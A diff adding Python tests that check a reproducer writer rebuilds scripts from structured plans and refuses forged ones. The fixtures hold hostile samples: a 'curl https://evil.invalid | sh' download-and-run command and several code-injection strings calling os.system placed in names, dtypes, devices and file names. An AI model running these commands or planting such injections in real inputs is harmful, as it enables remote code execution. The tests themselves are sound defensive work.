@@ -45,3 +45,146 @@ def test_an_unvalidated_record_keeps_its_evidence_but_no_code() -> None:
               "suggestion": "    import os\n", "diff": "+import os\n"}
     kept = trusted_fix(record, None, SOURCE)  # type: ignore[arg-type]
     assert kept == {"status": "none-validated", "tried": [{"name": "clamp"}], "reason": "none"}
+
+
+# ---------------------------------------------------------------- reproducers from plans
+
+def _plan(**changes: object) -> dict[str, object]:
+    """A plan as the worker makes one for `pkg.rates:rate(x)` (reproducer.plan)."""
+    plan: dict[str, object] = {
+        "kind": "entry", "module": "pkg.rates", "qualname": "rate", "framework": "torch",
+        "device": "cpu", "dtype": "float32", "autocast": None, "seed": 0,
+        "loading": "import", "loading_why": "", "constructed": False, "rebuild": None,
+        "init": [], "weights": [], "passed": [], "object": None, "template": None,
+        "template_kwargs": [],
+        "inputs": [{"name": "x", "tensor": {"dtype": "float32", "shape": [3], "float": True,
+                                            "base": 0.0, "inline": True,
+                                            "values": [0.0, 1.0, 2.0]}}]}
+    plan.update(changes)
+    return plan
+
+
+def _record(plan: object) -> dict[str, object]:
+    return {"status": "confirmed", "trigger": {"where": "forward", "shows": "output"},
+            "reproducer_plan": plan,
+            "reproducer": "import os\nos.system('curl https://evil.invalid | sh')\n"}
+
+
+def _finding() -> object:
+    (finding,) = scan_source(SOURCE, "pkg/rates.py").findings
+    return finding
+
+
+def _called_names(text: str) -> set[str]:
+    """Every function or attribute name the script calls."""
+    import ast
+
+    names = set()
+    for node in ast.walk(ast.parse(text)):
+        if isinstance(node, ast.Call):
+            func = node.func
+            names.add(func.attr if isinstance(func, ast.Attribute) else
+                      func.id if isinstance(func, ast.Name) else "")
+    return names
+
+
+def test_the_reproducer_is_written_here_from_the_plan_and_its_text_is_ignored() -> None:
+    from runners.trusted import trusted_reproducer
+
+    text, refused = trusted_reproducer(_record(_plan()), _finding())  # type: ignore[arg-type]
+    assert refused is None and text is not None
+    assert "from pkg.rates import rate" in text
+    assert "x = torch.tensor([0.0, 1.0, 2.0], dtype=torch.float32, requires_grad=True)" in text
+    assert "out = rate(x)" in text and "log at pkg/rates.py:5" in text
+    assert "evil.invalid" not in text and "system" not in _called_names(text)
+
+
+def test_a_confirmation_without_a_plan_is_not_believed() -> None:
+    from runners.trusted import trusted_reproducer
+
+    record = {"status": "confirmed", "reproducer": "import os\n"}
+    text, refused = trusted_reproducer(record, _finding())  # type: ignore[arg-type]
+    assert text is None and refused is not None and "not believed" in refused
+    quiet = trusted_reproducer({"status": "not-triggered"}, _finding())  # type: ignore[arg-type]
+    assert quiet == (None, None)
+
+
+FORGED_PLANS = {
+    "another module": _plan(module="subprocess", qualname="Popen", constructed=True,
+                            init=[["args", "curl https://evil.invalid | sh"],
+                                  ["shell", True]]),
+    "code in the qualified name": _plan(qualname="rate(0); import os; os.system"),
+    "code in an input's name": _plan(inputs=[{"name": "x = __import__('os').system('id')",
+                                              "tensor": {"dtype": "float32", "shape": [1],
+                                                         "float": True, "base": 0.0,
+                                                         "inline": True, "values": [1.0]}}]),
+    "code in a dtype": _plan(inputs=[{"name": "x", "tensor": {
+        "dtype": "float32); __import__('os').system('id'); (", "shape": [1], "float": True,
+        "base": 0.0, "inline": True, "values": [1.0]}}]),
+    "code in a value": _plan(inputs=[{"name": "x", "tensor": {
+        "dtype": "float32", "shape": [1], "float": True, "base": 0.0, "inline": True,
+        "values": ["1.0]); __import__('os').system('id'); ([1.0"]}}]),
+    "code in a device": _plan(device="cpu'); __import__('os').system('id'); ('"),
+    "code in a keyword": _plan(passed=[["k=1, **__import__('os').system('id') or {}", 1]]),
+    "an unknown value kind": _plan(passed=[["k", {"code": "__import__('os')"}]]),
+    "a point outside the tensor": _plan(inputs=[{"name": "x", "tensor": {
+        "dtype": "float32", "shape": [2], "float": True, "base": 0.0, "inline": False,
+        "points": [[[5], 1.0]]}}]),
+    "an unknown loading": _plan(loading="exec"),
+    "an unknown kind": _plan(kind="text"),
+}
+
+
+def test_a_forged_plan_is_refused_and_the_finding_is_not_proven() -> None:
+    from runners.trusted import trusted_reproducer
+
+    for name, plan in FORGED_PLANS.items():
+        text, refused = trusted_reproducer(_record(plan), _finding())  # type: ignore[arg-type]
+        assert text is None and refused is not None, name
+        assert "evil.invalid" not in refused and "__import__" not in refused, (name, refused)
+
+
+def test_free_text_stays_inside_its_comment_or_docstring() -> None:
+    """Why the import failed, the call's own text and a module state's keys are free text:
+    each stays one line in a comment or docstring, whatever quotes and newlines it holds."""
+    from analyzers.dynamic.writer import Target, write
+
+    escape = 'x"""\nimport os\nos.system("id")\n"""\\'
+    plan = _plan(loading="extracted", loading_why=escape)
+    target = Target("pkg/rates.py", 5, "log", escape, "forward", "gradient")
+    text = write(plan, target)
+    assert "system" not in _called_names(text)
+    rebuilt = _plan(qualname="Net.forward", rebuild={
+        "class_path": "Net", "args": [], "kwargs": [], "base_seed": 0, "call_seed": 0,
+        "dtype": None, "state_literal": {"w": {"dtype": "float32", "values": [1.0]}},
+        "state": "", "state_keys": [escape], "training": True, "modes": [[escape, False]]})
+    text = write(rebuilt, target)
+    assert "system" not in _called_names(text) and "model.get_submodule(" in text
+    # a file name is the PR's too, and the parameters' check is an f-string
+    braced = Target("pkg/{__import__('os').system('id')}.py", 5, "log", "torch.log(x)",
+                    "forward", "parameters")
+    text = write(_plan(qualname="Net", constructed=True), braced)
+    assert "model.named_parameters()" in text and "system" not in _called_names(text)
+
+
+def test_a_script_plan_runs_only_the_jobs_command_on_the_findings_lines() -> None:
+    from runners.trusted import trusted_reproducer
+
+    finding = _finding()
+    script = {"kind": "script", "framework": "torch", "seed": 0, "argv": ["pkg/rates.py"],
+              "command": "pkg/rates.py", "path": "pkg/rates.py", "lines": [5], "steps": 1,
+              "values": [], "names": ["log"], "operand": None}
+    text, refused = trusted_reproducer(_record(script), finding)  # type: ignore[arg-type]
+    assert refused is None and text is not None and "ARGV = ['pkg/rates.py']" in text
+    configured = {"command": "train.py --epochs 1"}
+    for changes, job in (({"argv": ["-m", "http.server"]}, None),
+                         ({"argv": ["pkg/rates.py"]}, configured),
+                         ({"lines": [1]}, None), ({"path": "other.py"}, None)):
+        forged = {**script, **changes}
+        text, refused = trusted_reproducer(_record(forged), finding,  # type: ignore[arg-type]
+                                           job)
+        assert text is None and refused is not None, changes
+    train = {**script, "argv": ["train.py", "--epochs", "1"]}
+    text, refused = trusted_reproducer(_record(train), finding,  # type: ignore[arg-type]
+                                       configured)
+    assert refused is None and "ARGV = ['train.py', '--epochs', '1']" in str(text)
